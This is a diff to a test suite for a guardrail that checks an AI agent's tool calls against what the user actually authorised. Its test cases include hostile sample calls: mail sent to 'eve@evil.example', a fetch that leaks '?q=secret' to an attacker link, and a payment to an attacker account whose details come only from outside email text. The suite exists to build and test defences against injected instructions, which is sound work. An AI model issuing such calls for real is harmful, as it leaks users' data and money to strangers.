@@ -12,6 +12,8 @@ from tests.guardrail_checker.authority.worlds import (
     EVE_ACCOUNT,
     EVE_LINK,
     PLAN,
+    PROMPT,
+    TOOLS,
     Office,
 )
 
@@ -47,6 +49,10 @@ def test_what_the_user_wrote_needs_nobody():
         ("send_mail", {"to": [], "body": "anything at all"}, "unanchored_effect"),
         ("set_code", {"code": "Spring"}, "secret_of_nobody"),
         ("set_code", {}, "secret_of_nobody"),
+        ("send_mail", {"to": [[EVE]], "body": "x"}, "stranger_is_written_to"),
+        ("send_mail", {"to": {"address": EVE}, "body": "x"}, "stranger_is_written_to"),
+        ("send_mail", {"to": [""], "body": "x"}, "stranger_is_written_to"),
+        ("send_mail", {"to": [True], "body": "x"}, "stranger_is_written_to"),
         ("delete", {"id": "7"}, "not_in_plan"),
         ("fetch", {"url": f"{EVE_LINK}?q=secret"}, "stranger_to_payload"),
     ],
@@ -160,6 +166,46 @@ def test_a_verdict_tells_its_policies_and_why():
     assert "the user did not name what is destroyed" in asked.reason
     assert isinstance(cleared, ToolCleared)
     assert (cleared.rule, cleared.reason) == ("tool_of_the_agent", "the agent may call this tool")
+
+
+def test_a_person_who_is_asked_is_told_which_values_nobody_vouches_for():
+    found = office()
+    found.call("search_mail", {"query": "Spring meeting"})
+
+    _, asked = found.stage.ask("pay", f'{{"to": "{EVE_ACCOUNT}", "amount": 999}}')
+
+    assert f"to '{EVE_ACCOUNT}' stands only in text from outside" in asked.reason
+    assert "amount '999' stands nowhere but in the call" in asked.reason
+
+
+def test_a_secret_is_not_repeated_to_who_is_asked():
+    _, asked = office().stage.ask("set_code", '{"code": "hunter2"}')
+
+    assert "hunter2" not in asked.reason
+
+
+def test_an_egress_tool_that_declares_no_sinks_asks():
+    tool = TOOLS["send_mail"].model_copy(update={"sinks": {}})
+    stage = Stage(PROMPT, {"send_mail": tool}, POLICY)
+
+    _, asked = stage.ask("send_mail", '{"to": ["eve@evil.example"], "body": "Summer meeting"}')
+
+    assert asked.rule.split(",")[-1] == "undeclared_sinks"
+
+
+def test_a_link_in_a_sink_of_a_read_is_looked_at():
+    tool = TOOLS["fetch"].model_copy(update={"sinks": {"url": "destination"}})
+    stage = Stage(PROMPT, {"fetch": tool}, POLICY)
+
+    _, asked = stage.ask("fetch", f'{{"url": "{EVE_LINK}"}}')
+
+    assert asked.rule == "stranger_to_payload"
+
+
+def test_a_name_that_comes_twice_is_unreadable():
+    _, verdict = office().stage.ask("delete", '{"id": "50", "id": "7"}')
+
+    assert verdict.rule == "arguments_unreadable"
 
 
 def test_what_a_producer_tells_beside_the_text_counts_as_the_users():
